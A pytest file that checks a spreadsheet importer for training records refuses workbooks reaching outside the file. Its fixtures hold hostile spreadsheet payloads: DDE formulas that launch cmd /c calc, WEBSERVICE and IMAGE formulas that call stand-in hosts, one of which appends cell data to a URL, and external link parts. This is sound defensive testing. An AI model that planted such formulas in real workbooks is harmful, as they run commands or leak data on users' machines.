"""Formulas and links reaching outside the workbook are refused naming their cells, a formula never becomes an
empty value silently, and no kept copy holds an external link part. Workbooks are built here as Excel saves
them: formulas with their saved results, link parts with their relationships."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from importers.links import classify
from importers.pipeline import import_file
from tests.importers import hostile, hostile_xml
from tests.importers.conftest import count, uploads

HEADERS = [
    "Reference",
    "Project",
    "Start date",
    "District",
    "Target group",
    "Topic",
    "Female participants",
    "Male participants",
    "Total participants",
    "Notes",
]
ROWS = [
    ["LK-1", "KEC", "12/03/2019", "Huye", "Police", "Victim identification", 12, 9],
    ["LK-2", "KEC", "14/03/2019", "Gasabo", "Media", "Reporting on trafficking", 4, 6],
    ["LK-3", "KEC", "20/03/2019", "Rubavu", "Immigration officers", "Border screening", 7, 8],
]


def workbook(
    formulas: dict[str, str],
    cached: dict[str, object] | None = None,
    links: bool = False,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A trainings sheet (header in row 1, data in rows 2–4) with ``formulas`` written into cells, saved
    results for those in ``cached``, and, with ``links``, the link parts Excel writes for [1] and [2]."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Trainings"
    sheet.append(HEADERS)
    for row in ROWS:
        sheet.append(row)
    for cell, formula in formulas.items():
        sheet[cell] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if cached:
        data = hostile.patch_workbook(
            data, replace={"xl/worksheets/sheet1.xml": lambda xml: hostile.with_cached_values(xml, cached)}
        )
    if links:
        data = hostile.with_links(data)
    if extra:
        data = hostile.patch_workbook(data, add=extra)
    return data


def refused(db, settings, data: bytes):
    report = import_file(db, data, "linked.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "refused" and count(db, "trainings") == 0
    [upload] = uploads(db)
    assert upload.outcome == "refused" and upload.kept_path is None
    return report


def test_external_links_dde_and_formulas_into_another_workbook_are_refused_naming_each_cell(db, settings):
    data = workbook(
        {
            "F2": "=[1]Rates!B2",
            "G3": "='C:\\Budget\\[Targets.xlsx]Sheet1'!A1",
            "H4": "=cmd|' /C calc'!A0",
            "F3": "=[2]!'A0'",
        },
        cached={"F2": "Victim identification", "G3": 4, "H4": 7, "F3": "Reporting on trafficking"},
        links=True,
    )
    report = refused(db, settings, data)
    cells = {p.where: p for p in report.errors if p.cell}
    assert set(cells) == {"Trainings!F2", "Trainings!G3", "Trainings!H4", "Trainings!F3"}
    assert cells["Trainings!F2"].value == "=[1]Rates!B2"
    assert "reading another workbook (file:///C:/Budget/rates.xlsx)" in cells["Trainings!F2"].expected
    assert "reading another workbook ([Targets.xlsx])" in cells["Trainings!G3"].expected
    assert cells["Trainings!H4"].expected.startswith("a value, not a DDE formula")
    assert cells["Trainings!F3"].expected.startswith("a value, not a DDE formula")  # [2] is the DDE link part
    parts = [str(p) for p in report.errors if not p.cell]
    assert any(
        "a link to another workbook (file:///C:/Budget/rates.xlsx, in xl/externalLinks/externalLink1.xml)"
        in p
        for p in parts
    )
    assert any(
        "a DDE link asking another program for data (cmd /c calc, in xl/externalLinks/externalLink2.xml)" in p
        for p in parts
    )


def test_a_link_part_no_cell_uses_still_refuses_the_upload(db, settings):
    report = refused(db, settings, workbook({}, links=True))
    assert [p.cell for p in report.errors] == ["", ""]
    assert "break the link (Data ▸ Edit Links ▸ Break Link, which keeps the values)" in str(report.errors[0])


def test_formulas_fetching_from_outside_and_data_connections_are_refused(db, settings):
    connections = {
        "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main"><connection id="1" name="Rates feed" type="4"><webPr '
        b'url="http://rates.example/feed"/></connection></connections>'
    }
    data = workbook(
        {"J2": '=WEBSERVICE("http://rates.example/today")'}, cached={"J2": "1.2"}, extra=connections
    )
    report = refused(db, settings, data)
    [cell] = [p for p in report.errors if p.cell]
    assert (
        cell.where == "Trainings!J2"
        and "fetching data from outside the workbook (WEBSERVICE)" in cell.expected
    )
    assert any(
        "data connections to outside sources (Rates feed, in xl/connections.xml)" in str(p)
        for p in report.errors
    )


def test_a_formula_without_a_saved_result_in_a_column_read_is_refused_naming_its_cells(db, settings):
    report = refused(db, settings, workbook({f"I{n}": f"=G{n}+H{n}" for n in (2, 3, 4)}))
    unsaved = [p for p in report.errors if "no saved result" in p.expected]
    assert [(p.where, p.value) for p in unsaved] == [
        ("Trainings!I2", "=G2+H2"),
        ("Trainings!I3", "=G3+H3"),
        ("Trainings!I4", "=G4+H4"),
    ]


def test_formulas_with_saved_results_import_their_results(db, settings):
    data = workbook(
        {f"I{n}": f"=G{n}+H{n}" for n in (2, 3, 4)} | {"J2": '=IF(G2>0,"see [1] | note","")'},
        cached={"I2": 21, "I3": 10, "I4": 15, "J2": "see [1] | note"},
    )
    report = import_file(db, data, "totals.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "stored", report.as_text()
    assert count(db, "trainings") == 3
    kept = zipfile.ZipFile(uploads(db)[0].kept_path)
    assert not [name for name in kept.namelist() if "externalLink" in name]


def test_a_saved_result_that_contradicts_the_row_is_caught_as_any_value_is(db, settings):
    data = workbook({"I2": "=G2+H2"}, cached={"I2": 99})
    report = import_file(db, data, "totals.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "refused" and [p.where for p in report.errors] == ["Trainings!I2"]


def test_a_formula_without_a_result_outside_the_columns_read_does_not_block(db, settings):
    data = workbook({"J2": "=G2*2", "L9": "=1+1"})
    report = import_file(db, data, "notes.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "stored", report.as_text()


@pytest.mark.parametrize(
    "formula, reach",
    [
        ("[1]Rates!B2", "workbook"),
        ("'[3]Sheet 1'!A1", "workbook"),
        ("SUM([1]Rates!B2:B9)", "workbook"),
        ("'C:\\Budget\\[Targets.xlsx]Sheet1'!A1", "workbook"),
        ("'https://x.example/[b.xlsx]S'!A1", "workbook"),
        ("[Book2.xlsx]Sheet1!A1", "workbook"),
        ("cmd|' /C calc'!A0", "dde"),
        ('DDE("cmd","/c calc","A0")', "dde"),
        ('_xlfn.WEBSERVICE("http://x")', "outside"),
        ('RTD("srv",,"x")', "outside"),
        ("G2+H2", None),
        ("SUM(Table1[2019])", None),
        ("Table1[[#This Row],[Male]]", None),
        ('IF(A1>0,"a|b [1] C:\\\\x","")', None),
        ("'Sheet [1]'!A1", "workbook"),
    ],
)
def test_what_counts_as_reaching_outside(formula, reach):
    assert classify(formula)[0] == reach


def test_an_ods_with_a_dde_link_is_refused(db, settings):
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
        b'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        b'<table:table table:name="S"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd'
        b'&quot;;&quot;/c calc&quot;;&quot;A0&quot;)" office:value-type="float" office:value="1"><text:p>1'
        b"</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
        b"</office:document-content>"
    )
    data = hostile.raw_zip(
        [
            ("mimetype", *hostile.deflated(b"application/vnd.oasis.opendocument.spreadsheet")),
            ("content.xml", *hostile.deflated(content)),
        ]
    )
    report = import_file(db, data, "linked.ods", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "refused"
    assert [str(p) for p in report.errors] == [
        (
            'S!A1: found \'=DDE("cmd";"/c calc";"A0")\'; expected a value, not a DDE formula asking another '
            "program for data; paste the cells as values"
        )
    ]


# --- reaching outside from anywhere: found by what a part is, whatever the quoting ----------------------------

LINK_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
LINK_CONTENT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


@pytest.mark.parametrize("declared", ["relationship and content type", "relationship", "content type"])
def test_an_external_link_part_anywhere_is_found_by_what_it_is(db, settings, declared):
    """Excel finds an external link through the workbook's relationship (and knows it by its content type),
    wherever the part is: here xl/other/link1.xml."""
    data = workbook({"F2": "=[1]Rates!B2"}, cached={"F2": "Victim identification"})

    def rels(xml: bytes) -> bytes:
        return (
            xml.replace(
                b"</Relationships>",
                b'<Relationship Type="' + LINK_TYPE + b'" Target="other/link1.xml" '
                b'Id="rId91"/></Relationships>',
            )
            if "relationship" in declared
            else xml
        )

    def types(xml: bytes) -> bytes:
        return (
            xml.replace(
                b"</Types>",
                b'<Override PartName="/xl/other/link1.xml" ContentType="' + LINK_CONTENT + b'"/></Types>',
            )
            if "content type" in declared
            else xml
        )

    def book(xml: bytes) -> bytes:
        return xml.replace(
            b"</sheets>",
            b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships" r:id="rId91"/></externalReferences>',
        )

    data = hostile.patch_workbook(
        data,
        replace={"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types, "xl/workbook.xml": book},
        add={
            "xl/other/link1.xml": hostile.EXTERNAL_LINK,
            "xl/other/_rels/link1.xml.rels": hostile.EXTERNAL_LINK_RELS,
        },
    )
    report = refused(db, settings, data)
    assert any(
        str(p) == "the workbook holds a link to another workbook (file:///C:/Budget/rates.xlsx, in "
        "xl/other/link1.xml); break the link (Data ▸ Edit Links ▸ Break Link, which keeps the "
        "values) and upload it again"
        for p in report.errors
    ), report.as_text()
    assert [p.where for p in report.errors if p.cell] == ["Trainings!F2"]


def test_a_formula_reaching_out_from_a_conditional_format_or_a_data_validation_is_refused(db, settings):
    rules = (
        b'<conditionalFormatting sqref="F2:F4"><cfRule type="expression" priority="1" dxfId="0"><formula>'
        b'LEN(WEBSERVICE("http://x.example/?"&amp;F2))&gt;0</formula></cfRule></conditionalFormatting>'
        b'<dataValidations count="1"><dataValidation type="list" sqref="E2:E4"><formula1>[1]Lists!$A$1:$A$9'
        b"</formula1></dataValidation></dataValidations>"
    )

    def sheet(xml: bytes) -> bytes:
        return xml.replace(b"<pageMargins", rules + b"<pageMargins", 1)

    data = hostile.patch_workbook(workbook({}), replace={"xl/worksheets/sheet1.xml": sheet})
    report = refused(db, settings, data)
    assert [(p.where, p.value) for p in report.errors] == [
        ("Trainings!F2:F4", '=LEN(WEBSERVICE("http://x.example/?"&F2))>0'),
        ("Trainings!E2:E4", "=[1]Lists!$A$1:$A$9"),
    ]
    assert report.errors[0].expected == (
        "a conditional formatting that stays inside the workbook, not one fetching "
        "data from outside the workbook (WEBSERVICE); remove it (Home ▸ Conditional "
        "Formatting ▸ Manage Rules) and upload it again"
    )
    assert report.errors[1].expected.startswith(
        "a data validation that stays inside the workbook, not one reading another workbook"
    )


def test_a_rule_in_excels_extension_list_is_read_too(db, settings):
    ext = (
        b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/'
        b'office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm='
        b'"http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="2" '
        b'id="{1}"><xm:f>_xlfn.IMAGE("https://x.example/pixel.png")</xm:f></x14:cfRule><xm:sqref>A2:A4'
        b"</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
    )
    data = hostile.patch_workbook(
        workbook({}),
        replace={"xl/worksheets/sheet1.xml": lambda xml: xml.replace(b"</worksheet>", ext + b"</worksheet>")},
    )
    [problem] = refused(db, settings, data).errors
    assert problem.value == '=_xlfn.IMAGE("https://x.example/pixel.png")'
    assert "(IMAGE)" in problem.expected and problem.sheet == "Trainings"


def test_defined_names_reading_another_workbook_or_fetching_are_refused(db, settings):
    names = (
        b"<definedNames><definedName name=\"Rates\">'C:\\Budget\\[rates.xlsx]Sheet1'!$A$1</definedName>"
        b'<definedName name="Feed">FILTERXML(WEBSERVICE("http://x.example"),"//a")</definedName>'
        b'<definedName name="Districts">Trainings!$D$2:$D$4</definedName></definedNames>'
    )
    data = hostile.patch_workbook(
        workbook({}), replace={"xl/workbook.xml": lambda xml: xml.replace(b"</sheets>", b"</sheets>" + names)}
    )
    report = refused(db, settings, data)
    assert [(p.where, p.value) for p in report.errors] == [
        ("name Rates", "='C:\\Budget\\[rates.xlsx]Sheet1'!$A$1"),
        ("name Feed", '=FILTERXML(WEBSERVICE("http://x.example"),"//a")'),
    ]
    assert str(report.errors[1]) == (
        'name Feed: found \'=FILTERXML(WEBSERVICE("http://x.example"),"//a")\'; expected a defined name that stays '
        "inside the workbook, not one fetching data from outside the workbook (FILTERXML); remove it (Formulas ▸ "
        "Name Manager) and upload it again"
    )


def test_an_image_formula_in_a_cell_is_refused(db, settings):
    data = workbook({"J2": '=_xlfn.IMAGE("https://x.example/p.png")'}, cached={"J2": 0})
    [problem] = refused(db, settings, data).errors
    assert problem.where == "Trainings!J2" and "(IMAGE)" in problem.expected


def test_a_picture_linked_from_outside_is_refused_naming_its_relationships_part(db, settings):
    drawing_rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b"package/2006/relationships\"><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/"
        b"officeDocument/2006/relationships/image' Target='https://x.example/pixel.png' "
        b"TargetMode = 'External'/></Relationships>"
    )
    data = workbook(
        {},
        extra={"xl/drawings/_rels/drawing1.xml.rels": drawing_rels, "xl/drawings/drawing1.xml": b"<wsDr/>"},
    )
    [problem] = refused(db, settings, data).errors
    assert str(problem) == (
        "the workbook holds a picture linked from outside (https://x.example/pixel.png, in "
        "xl/drawings/_rels/drawing1.xml.rels), which reaches outside the file; remove it and "
        "upload it again"
    )


def test_hyperlinks_are_kept_they_fetch_nothing_until_clicked(db, settings):
    sheet_rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="https://www.iom.int/" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = workbook(
        {"J2": '=HYPERLINK("https://www.iom.int/","IOM")'},
        cached={"J2": "IOM"},
        extra={"xl/worksheets/_rels/sheet1.xml.rels": sheet_rels},
    )
    report = import_file(db, data, "links.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "stored", report.as_text()


def _ods_trainings(topic) -> list[list]:
    header = [
        "Reference",
        "Project",
        "Start date",
        "District",
        "Target group",
        "Topic",
        "Female participants",
        "Male participants",
    ]
    return [
        header,
        ["OD-1", "KEC", "12/03/2019", "Huye", "Police", topic, 12, 9],
        ["OD-2", "KEC", "14/03/2019", "Gasabo", "Media", "Reporting on trafficking", 4, 6],
    ]


def _ods_refused(db, settings, data: bytes):
    report = import_file(db, data, "linked.ods", settings=settings, programme="KEC", uploaded_by="olivier")
    assert report.outcome == "refused" and count(db, "trainings") == 0
    [upload] = uploads(db)
    assert upload.kept_path is None
    return report


def test_an_ods_dde_formula_in_single_quotes_is_refused_not_read_as_its_saved_text(db, settings):
    cell = (
        b'<table:table-cell table:formula=\'of:=DDE("cmd";"/c calc";"A0")\' office:value-type=\'string\' '
        b"office:string-value='Training'><text:p>Training</text:p></table:table-cell>"
    )
    report = _ods_refused(db, settings, hostile_xml.ods(_ods_trainings(cell)))
    assert [(p.where, p.value) for p in report.errors] == [("Trainings!F2", '=DDE("cmd";"/c calc";"A0")')]


@pytest.mark.parametrize(
    "where",
    ["validity", "conditional style", "named expression", "dde source", "linked table", "linked picture"],
)
def test_an_ods_reaching_out_from_anywhere_is_refused(db, settings, where):
    parts = {
        "validity": {
            "before_table": (
                b"<table:content-validations><table:content-validation table:name='val1' table:condition='of:is-true-"
                b"formula(WEBSERVICE(&quot;http://x.example&quot;))'/></table:content-validations>"
            )
        },
        "conditional style": {
            "styles": (
                b"<office:styles><style:style style:name='Hot' style:family='table-cell'><style:map style:condition="
                b"'is-true-formula(ORG.OPENOFFICE.WEBSERVICE(&quot;http://x.example&quot;))' style:apply-style-name="
                b"'Bad'/></style:style></office:styles>"
            )
        },
        "named expression": {
            "after": (
                b"<table:named-expressions><table:named-range table:name='Rates' table:base-cell-address="
                b"'$Trainings.$A$1' table:cell-range-address=\"'file:///C:/Budget/rates.ods'#$Sheet1.$A$1\"/>"
                b"</table:named-expressions>"
            )
        },
        "dde source": {
            "before_table": (
                b"<table:dde-links><table:dde-link><office:dde-source office:name='calc' office:dde-application='cmd' "
                b"office:dde-topic='/c calc' office:dde-item='A0'/></table:dde-link></table:dde-links>"
            )
        },
        "linked table": {
            "in_table": (
                b"<table:table-source xlink:type='simple' xlink:href='https://x.example/rates.ods' "
                b"table:table-name='Rates'/>"
            )
        },
        "linked picture": {
            "in_table": (
                b"<table:shapes><draw:frame><draw:image xlink:href='https://x.example/p.png' xlink:type='simple'/>"
                b"</draw:frame></table:shapes>"
            )
        },
    }[where]
    report = _ods_refused(db, settings, hostile_xml.ods(_ods_trainings("Victim identification"), **parts))
    text = " ".join(str(p) for p in report.errors)
    assert {
        "validity": "validity rule that stays inside",
        "conditional style": "(WEBSERVICE)",
        "named expression": "(file:///C:/Budget/rates.ods)",
        "dde source": "a DDE link asking another program for data (cmd /c calc, in content.xml)",
        "linked table": "a link to another workbook (https://x.example/rates.ods, in content.xml)",
        "linked picture": "a linked image (https://x.example/p.png, in content.xml)",
    }[where] in text, text


def test_an_ods_without_links_is_read(db, settings):
    report = import_file(
        db,
        hostile_xml.ods(_ods_trainings("Victim identification")),
        "plain.ods",
        settings=settings,
        programme="KEC",
        uploaded_by="olivier",
    )
    assert report.outcome == "stored", report.as_text()
    assert count(db, "trainings") == 2
